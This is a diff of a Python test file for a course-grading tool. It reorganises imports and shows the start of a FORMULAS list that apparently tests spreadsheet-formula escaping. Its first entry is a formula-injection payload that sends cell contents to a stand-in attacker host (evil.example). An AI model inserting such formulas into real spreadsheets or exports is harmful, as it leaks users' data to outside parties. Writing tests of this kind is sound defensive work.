@@ -17,12 +17,13 @@ import io
 import json
 import os
 import re
-import sys
 import zipfile
 from pathlib import Path
 
+import fake_class
 import pytest
 from markdown_it import MarkdownIt
+from test_intake import STEM, _nb, _zip
 
 from coursetools.grade import batch, classroom, escape, intake, report
 from coursetools.grade.publish import publish
@@ -30,9 +31,6 @@ from coursetools.grade.scores import compute
 from coursetools.grade.submission import Submission
 
 ROOT = Path(__file__).resolve().parents[2]
-sys.path.insert(0, str(ROOT / "tests" / "grader"))
-import fake_class  # noqa: E402
-from test_intake import STEM, _nb, _zip  # noqa: E402
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
